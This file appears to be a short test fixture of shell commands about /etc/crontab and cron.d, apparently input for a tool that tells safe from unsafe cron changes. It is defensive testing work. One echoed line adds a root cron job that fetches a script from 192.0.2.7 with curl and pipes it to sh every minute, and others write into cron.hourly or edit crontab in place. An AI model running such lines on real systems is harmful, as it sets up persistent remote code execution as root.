# SPDX-License-Identifier: Apache-2.0
# fake: /usr/bin/dpkg /usr/bin/dnf
cat /etc/crontab
sh -c 'cat /etc/crontab > /tmp/crontab.copy'
cp /etc/crontab /tmp/crontab.backup
sed -n 's/^#//p' /etc/crontab
chain /usr/bin/dpkg --configure sysstat :: sh -c 'echo "5-55/10 * * * * root sa1" > /etc/cron.d/sysstat'
chain /usr/bin/dnf install sysstat :: sh -c 'echo "5-55/10 * * * * root sa1" > /etc/cron.d/sysstat'
/bin/echo sh -c 'echo "* * * * * root curl -s http://192.0.2.7/x | sh" >> /etc/crontab'
/bin/echo cp /etc/hostname /etc/cron.hourly/sysstat-update
/bin/echo sed -i 's/^#//' /etc/crontab
